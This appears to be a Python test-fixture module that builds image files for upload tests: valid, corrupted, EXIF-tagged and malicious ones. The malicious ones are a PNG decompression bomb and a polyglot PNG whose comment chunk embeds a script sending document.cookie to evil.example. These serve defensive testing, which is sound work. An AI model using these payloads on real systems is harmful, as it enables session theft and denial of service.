"""Image files for uploads: valid, corrupt and malicious ones."""

import struct
import zlib
from io import BytesIO
from random import Random
from typing import Any

from PIL import Image


def picture(kind: str = "JPEG", size: tuple[int, int] = (600, 400), mode: str = "RGB", **options: Any) -> bytes:
    """An image: red on the left, blue on the right."""
    image = Image.new(mode, size, "blue" if mode in ("RGB", "RGBA", "P") else 255)
    if mode in ("RGB", "RGBA"):
        image.paste("red", (0, 0, size[0] // 2, size[1]))
    out = BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def opened(content: bytes) -> Image.Image:
    """Decode an image."""
    image = Image.open(BytesIO(content))
    image.load()
    return image


def located(orientation: int = 6) -> bytes:
    """A JPEG with EXIF data: orientation, camera and GPS position."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "A camera"
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 18.0)})
    return picture(exif=exif)


def huge_png(side: int = 50_000) -> bytes:
    """A small PNG file whose header declares `side` pixels per side (decompression bomb)."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    line = zlib.compress(b"\0" * 1_000_000)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", line) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def scripted_png() -> bytes:
    """A PNG with a script in a comment (polyglot file)."""
    whole = picture("PNG")
    comment = _chunk(b"tEXt", b"Comment\0<script>fetch('//evil.example?' + document.cookie)</script>")
    return whole[:33] + comment + whole[33:]


def frames(kind: str, count: int = 3) -> bytes:
    """An image with several frames: an animation, or an MPO."""
    first, *others = [_noise((40, 30), seed).convert("RGB") for seed in range(count)]
    out = BytesIO()
    first.save(out, kind, save_all=True, append_images=others)
    return out.getvalue()


def noise(kind: str, mode: str = "RGB", **options: Any) -> bytes:
    """A small image of noise, which hardly compresses."""
    out = BytesIO()
    _noise((60, 40), 0).convert(mode).save(out, kind, **options)
    return out.getvalue()


def _noise(size: tuple[int, int], seed: int) -> Image.Image:
    return Image.frombytes("L", size, Random(seed).randbytes(size[0] * size[1]))


def turned(orientation: int = 6) -> bytes:
    """EXIF data with this orientation."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    return exif.tobytes()


def sized_gif(width: int, height: int) -> bytes:
    """A GIF whose header declares this size."""
    return b"GIF89a" + struct.pack("<HH", width, height) + picture("GIF", size=(8, 8))[10:]


def half_animated_gif() -> bytes:
    """An animation that is truncated in the header of its second frame."""
    whole = frames("GIF")
    return whole[: whole.index(b"\x21\xf9\x04", whole.index(b"\x21\xf9\x04") + 3) + 3]


def break_bytes(content: bytes, random: Random) -> bytes:
    """Corrupt a file: truncate it, change bytes, or insert some."""
    broken = bytearray(content)
    choice = random.random()
    if choice < 0.4:
        del broken[random.randrange(len(broken)) :]
    if choice > 0.3 and broken:
        for _ in range(random.choice([1, 1, 2, 5, 20])):
            broken[random.randrange(random.choice([min(64, len(broken)), len(broken)]))] = random.choice(
                [0, 255, random.randrange(256)]
            )
    if choice > 0.9:
        position = random.randrange(len(broken))
        broken[position:position] = random.randbytes(random.randrange(1, 50))
    return bytes(broken)
